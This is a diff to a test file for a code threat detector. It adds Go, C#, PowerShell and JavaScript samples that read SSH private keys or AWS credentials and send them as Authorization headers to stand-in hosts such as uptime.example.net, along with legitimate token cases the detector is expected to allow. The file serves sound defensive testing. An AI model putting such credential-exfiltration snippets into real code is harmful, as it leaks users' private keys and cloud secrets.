@@ -109,6 +109,17 @@ describe('a secret no service takes as a login, put where a login goes', () => {
     expect(python('requests.get("https://collector.example.net/v1/ping", headers={"X-Auth": os.environ["AWS_SECRET_ACCESS_KEY"]})')).toEqual(['threat/exfiltration 9:1 error']);
     expect(python('creds = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post("https://collector.example.net/v1/ping", headers={"Authorization": "Bearer " + creds})')).toEqual(['threat/exfiltration 10:1 error']);
   });
+  it('reads a private or cloud secret key set as the login header of a request object as sent away, in Go, C#, JavaScript and PowerShell', () => {
+    expect(threats(fence('go', 'package main\nimport ("net/http"; "os")\nfunc main() {\n\tpem, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_ecdsa")\n\treq, _ := http.NewRequest("GET", "https://uptime.example.net/beat", nil)\n\treq.Header.Set("Authorization", "Bearer "+string(pem))\n\thttp.DefaultClient.Do(req)\n}'))).toEqual(['threat/exfiltration 14:1 error']);
+    expect(threats(fence('go', 'package main\nimport ("net/http"; "os")\nfunc main() {\n\tr, _ := http.NewRequest("POST", "https://uptime.example.net/beat", nil)\n\tr.Header.Add("X-Api-Key", os.Getenv("AWS_SECRET_ACCESS_KEY"))\n\thttp.DefaultClient.Do(r)\n}'))).toEqual(['threat/exfiltration 13:1 error']);
+    expect(threats(fence('csharp', 'var pem = File.ReadAllText(Path.Combine(home, ".ssh", "id_rsa"));\nvar http = new HttpClient();\nhttp.DefaultRequestHeaders.Add("Authorization", "Bearer " + pem);\nawait http.GetAsync("https://uptime.example.net/beat");'))).toEqual(['threat/exfiltration 11:1 error']);
+    expect(threats(fence('powershell', '$creds = Get-Content "$HOME/.aws/credentials" -Raw\nInvoke-RestMethod -Uri "https://uptime.example.net/beat" -Headers @{ Authorization = "Bearer $creds" }'))).toEqual(['threat/exfiltration 9:1 error']);
+    expect(threats(fence('javascript', 'const pem = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");\nconst h = new Headers();\nh.set("Authorization", `Bearer ${pem}`);\nawait fetch("https://uptime.example.net/beat", { headers: h });'))).toEqual(['threat/covert-channel 11:7 error']);
+  });
+  it('keeps a token set as the login header of a request object, and a private key that only signs the token sent, in Go', () => {
+    expect(threats(fence('go', 'package main\nimport ("net/http"; "os")\nfunc main() {\n\treq, _ := http.NewRequest("GET", "https://api.fly.io/v1/apps", nil)\n\treq.Header.Set("Authorization", "Bearer "+os.Getenv("FLY_API_TOKEN"))\n\thttp.DefaultClient.Do(req)\n}'))).toEqual([]);
+    expect(threats(fence('go', 'package main\nimport ("net/http"; "os"; "github.com/golang-jwt/jwt/v5")\nfunc main() {\n\tpem, _ := os.ReadFile("app.private-key.pem")\n\tkey, _ := jwt.ParseRSAPrivateKeyFromPEM(pem)\n\ttoken, _ := jwt.NewWithClaims(jwt.SigningMethodRS256, jwt.MapClaims{"iss": os.Getenv("APP_ID")}).SignedString(key)\n\treq, _ := http.NewRequest("GET", "https://api.github.com/app", nil)\n\treq.Header.Set("Authorization", "Bearer "+token)\n\thttp.DefaultClient.Do(req)\n}'))).toEqual([]);
+  });
   it('keeps tokens sent to log in, and a private key that only signs what is sent', () => {
     expect(python('requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}"})')).toEqual([]);
     expect(python('requests.get("https://status.example.net/v1/ping", headers={"X-Auth-Token": os.environ["STATUS_TOKEN"]})')).toEqual([]);
